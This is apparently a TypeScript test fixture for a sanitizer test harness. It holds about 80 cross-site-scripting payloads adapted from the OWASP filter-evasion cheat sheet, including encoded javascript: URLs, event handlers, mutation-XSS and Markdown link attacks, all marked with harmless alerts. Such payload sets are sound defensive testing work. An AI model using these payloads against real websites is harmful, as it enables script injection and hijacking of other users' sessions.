/**
 * Script-injection payloads, adapted from the OWASP "XSS Filter Evasion Cheat
 * Sheet" (plus the Markdown and mutation-XSS cases that matter for a Markdown
 * body). Each payload is a function of a unique marker (`fdxss12`): whatever
 * would run calls alert/sets `window.__xss` with it, and every injected tag
 * carries it as its id, so the watcher (xss-watch.ts) can tell which payload, in
 * which field, got through.
 *
 * Adapted so that nothing leaves this machine: the cheat sheet's remote script
 * hosts are replaced by `data:` URLs or by the reserved `.invalid` domain (and the
 * browser blocks every request that is not to the test server).
 */

export interface XssPayload {
  name: string;
  make: (marker: string) => string;
}

const js = (m: string) => `alert('${m}')`;
const jsUrl = (m: string) => `javascript:${js(m)}`;
const decimal = (text: string, pad = 0, semicolon = true) =>
  [...text].map((c) => `&#${String(c.codePointAt(0)).padStart(pad, "0")}${semicolon ? ";" : ""}`).join("");
const hex = (text: string) => [...text].map((c) => `&#x${c.codePointAt(0)!.toString(16)}`).join("");
const base64 = (text: string) => Buffer.from(text, "utf8").toString("base64");

export const XSS_PAYLOADS: XssPayload[] = [
  // Basic script tags and polyglots
  { name: "script tag", make: (m) => `<script id=${m}>window.__xss='${m}'</script>` },
  { name: "script src data URL", make: (m) => `<SCRIPT id=${m} SRC="data:text/javascript,window.__xss='${m}'"></SCRIPT>` },
  { name: "polyglot", make: (m) => `javascript:/*--></title></style></textarea></script></xmp><svg id=${m} /onload='+/"/+/onmouseover=1/+/[*/[]/+${js(m)}//'>` },
  // Image tags with javascript: URLs
  { name: "img javascript:", make: (m) => `<IMG id=${m} SRC="${jsUrl(m)};">` },
  { name: "img no quotes no semicolon", make: (m) => `<IMG id=${m} SRC=${jsUrl(m)}>` },
  { name: "img case insensitive", make: (m) => `<IMG id=${m} SRC=JaVaScRiPt:${js(m)}>` },
  { name: "img HTML entities", make: (m) => `<IMG id=${m} SRC=javascript:alert(&quot;${m}&quot;)>` },
  { name: "img grave accents", make: (m) => `<IMG id=${m} SRC=\`javascript:alert("${m}")\`>` },
  { name: "a onmouseover", make: (m) => `<a id=${m} onmouseover="${js(m)}">xxs link</a>` },
  { name: "malformed img", make: (m) => `<IMG """><SCRIPT id=${m}>${js(m)}</SCRIPT>"\\>` },
  { name: "fromCharCode", make: (m) => `<IMG id=${m} SRC=javascript:alert(String.fromCharCode(88,83,83))>` },
  { name: "default src onmouseover", make: (m) => `<IMG id=${m} SRC=# onmouseover="${js(m)}">` },
  { name: "empty src onmouseover", make: (m) => `<IMG id=${m} SRC= onmouseover="${js(m)}">` },
  { name: "onerror", make: (m) => `<IMG id=${m} SRC=/ onerror="${js(m)}"></img>` },
  { name: "onerror entity-encoded handler", make: (m) => `<img id=${m} src=x onerror="${decimal(js(m), 7, false)}">` },
  { name: "decimal char refs", make: (m) => `<IMG id=${m} SRC=${decimal(jsUrl(m))}>` },
  { name: "padded decimal, no semicolons", make: (m) => `<IMG id=${m} SRC=${decimal(jsUrl(m), 7, false)}>` },
  { name: "hex char refs, no semicolons", make: (m) => `<IMG id=${m} SRC=${hex(jsUrl(m))}>` },
  { name: "embedded tab", make: (m) => `<IMG id=${m} SRC="jav\tascript:${js(m)};">` },
  { name: "encoded tab", make: (m) => `<IMG id=${m} SRC="jav&#x09;ascript:${js(m)};">` },
  { name: "encoded newline", make: (m) => `<IMG id=${m} SRC="jav&#x0A;ascript:${js(m)};">` },
  { name: "encoded carriage return", make: (m) => `<IMG id=${m} SRC="jav&#x0D;ascript:${js(m)};">` },
  { name: "spaces and meta chars before javascript:", make: (m) => `<IMG id=${m} SRC=" &#14;  ${jsUrl(m)};">` },
  { name: "non-alpha-non-digit", make: (m) => `<SCRIPT/XSS id=${m} SRC="data:text/javascript,window.__xss='${m}'"></SCRIPT>` },
  { name: "body onload with meta chars", make: (m) => `<BODY id=${m} onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${js(m)}>` },
  { name: "extraneous open brackets", make: (m) => `<<SCRIPT id=${m}>${js(m)};//\\<</SCRIPT>` },
  { name: "no closing script tag", make: (m) => `<SCRIPT id=${m} SRC=data:text/javascript,window.__xss='${m}'?< B >` },
  { name: "protocol resolution", make: (m) => `<SCRIPT id=${m} SRC=//${m}.invalid/.j>` },
  { name: "half open tag", make: (m) => `<IMG id=${m} SRC="\`<javascript:alert>\`('${m}')"` },
  { name: "double open angle iframe", make: (m) => `<iframe id=${m} src="data:text/html,<script>parent.__xss='${m}'</script>" <` },
  { name: "escaping JS escapes", make: (m) => `\\";${js(m)};//` },
  { name: "end title tag", make: (m) => `</TITLE><SCRIPT id=${m}>${js(m)};</SCRIPT>` },
  { name: "input image", make: (m) => `<INPUT id=${m} TYPE="IMAGE" SRC="${jsUrl(m)};">` },
  { name: "body background", make: (m) => `<BODY id=${m} BACKGROUND="${jsUrl(m)}">` },
  { name: "img dynsrc / lowsrc", make: (m) => `<IMG id=${m} DYNSRC="${jsUrl(m)}" LOWSRC="${jsUrl(m)}">` },
  { name: "list-style-image", make: (m) => `<STYLE>li {list-style-image: url("${jsUrl(m)}");}</STYLE><UL><LI id=${m}>XSS</br>` },
  { name: "vbscript in an image", make: (m) => `<IMG id=${m} SRC='vbscript:msgbox("${m}")'>` },
  { name: "svg onload", make: (m) => `<svg id=${m} onload=${js(m)}>` },
  { name: "svg script", make: (m) => `<svg id=${m}><script>${js(m)}</script></svg>` },
  { name: "body onload", make: (m) => `<BODY id=${m} ONLOAD=${js(m)}>` },
  { name: "details ontoggle (fires by itself)", make: (m) => `<details id=${m} open ontoggle=${js(m)}>` },
  { name: "video source onerror", make: (m) => `<video id=${m}><source onerror="${js(m)}">` },
  { name: "audio onerror", make: (m) => `<audio id=${m} src=x onerror=${js(m)}>` },
  { name: "bgsound", make: (m) => `<BGSOUND id=${m} SRC="${jsUrl(m)};">` },
  { name: "link stylesheet", make: (m) => `<LINK id=${m} REL="stylesheet" HREF="${jsUrl(m)};">` },
  { name: "style @import", make: (m) => `<STYLE id=${m}>@import'//${m}.invalid/xss.css';</STYLE>` },
  { name: "meta refresh javascript:", make: (m) => `<META id=${m} HTTP-EQUIV="refresh" CONTENT="0;url=${jsUrl(m)};">` },
  { name: "meta refresh data: base64", make: (m) => `<META id=${m} HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${base64(`<script>${js(m)}</script>`)}">` },
  { name: "iframe javascript:", make: (m) => `<IFRAME id=${m} SRC="${jsUrl(m)};"></IFRAME>` },
  { name: "iframe event", make: (m) => `<IFRAME id=${m} SRC=# onmouseover="${js(m)}"></IFRAME>` },
  { name: "frameset", make: (m) => `<FRAMESET><FRAME id=${m} SRC="${jsUrl(m)};"></FRAMESET>` },
  { name: "table and td background", make: (m) => `<TABLE id=${m} BACKGROUND="${jsUrl(m)}"><TD BACKGROUND="${jsUrl(m)}">` },
  { name: "div background-image", make: (m) => `<DIV id=${m} STYLE="background-image: url(${jsUrl(m)})">` },
  { name: "div expression", make: (m) => `<DIV id=${m} STYLE="width: expression(${js(m)});">` },
  { name: "img style expression", make: (m) => `<IMG id=${m} STYLE="xss:expr/*XSS*/ession(${js(m)})">` },
  { name: "style type text/javascript", make: (m) => `<STYLE id=${m} TYPE="text/javascript">${js(m)};</STYLE>` },
  { name: "style class background", make: (m) => `<STYLE>.XSS{background-image:url("${jsUrl(m)}");}</STYLE><A id=${m} CLASS=XSS></A>` },
  { name: "base href", make: (m) => `<BASE id=${m} HREF="${jsUrl(m)};//">` },
  { name: "object scriptlet", make: (m) => `<OBJECT id=${m} TYPE="text/x-scriptlet" DATA="data:text/html,<script>parent.__xss='${m}'</script>"></OBJECT>` },
  { name: "embed svg base64", make: (m) => `<EMBED id=${m} SRC="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg"><script>${js(m)}</script></svg>`)}" type="image/svg+xml">` },
  { name: "XML data island with comment", make: (m) => `<XML ID="${m}"><I><B><IMG SRC="javas<!-- -->cript:${js(m)}"></B></I></XML>` },
  { name: "HTML+TIME", make: (m) => `<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set id=${m} attributeName="innerHTML" to="XSS<SCRIPT DEFER>${js(m)}</SCRIPT>"></BODY></HTML>` },
  { name: "SSI", make: (m) => `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT id=${m} SRC=//${m}.invalid/xss.js></SCRIPT>'"-->` },
  { name: "PHP echo", make: (m) => `<? echo('<SCR)'; echo('IPT id=${m}>${js(m)}</SCRIPT>'); ?>` },
  { name: "UTF-7", make: (m) => `<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"> </HEAD>+ADw-SCRIPT id=${m}+AD4-${js(m)};+ADw-/SCRIPT+AD4-` },
  { name: "attribute with >", make: (m) => `<SCRIPT id=${m} a=">" SRC="data:text/javascript,window.__xss='${m}'"></SCRIPT>` },
  { name: "a href javascript: redirect", make: (m) => `<A id=${m} HREF="javascript:document.location='//${m}.invalid/'">XSS</A>` },
  { name: "attribute breakout", make: (m) => `"><img src=x id=${m} onerror=${js(m)}>` },
  { name: "single-quote attribute breakout", make: (m) => `'><svg id=${m} onload=${js(m)}>` },
  { name: "JS string breakout", make: (m) => `'-${js(m)}-'` },
  { name: "script end in JSON-LD", make: (m) => `</script><script id=${m}>${js(m)}</script>` },
  { name: "mXSS noscript", make: (m) => `<noscript><p title="</noscript><img src=x id=${m} onerror=${js(m)}>">` },
  { name: "mXSS math/style", make: (m) => `<math><mtext><table><mglyph><style><img src=x id=${m} onerror=${js(m)}>` },
  // Markdown: links and images with dangerous schemes, autolinks, reference links
  { name: "markdown link javascript:", make: (m) => `[click ${m}](${jsUrl(m)})` },
  { name: "markdown link mixed case", make: (m) => `[click ${m}](JaVaScRiPt:${js(m)})` },
  { name: "markdown link entity-encoded scheme", make: (m) => `[click ${m}](&#106;avascript:${js(m)})` },
  { name: "markdown image javascript:", make: (m) => `![${m}](${jsUrl(m)})` },
  { name: "markdown link data: HTML", make: (m) => `[click ${m}](data:text/html;base64,${base64(`<script>${js(m)}</script>`)})` },
  { name: "markdown autolink javascript:", make: (m) => `<${jsUrl(m)}>` },
  { name: "markdown reference link vbscript:", make: (m) => `[click ${m}][r]\n\n[r]: vbscript:msgbox("${m}")` },
  { name: "bare javascript: URL", make: (m) => jsUrl(m) },
  { name: "bare data: URL", make: (m) => `data:text/html,<script>${js(m)}</script>` },
];
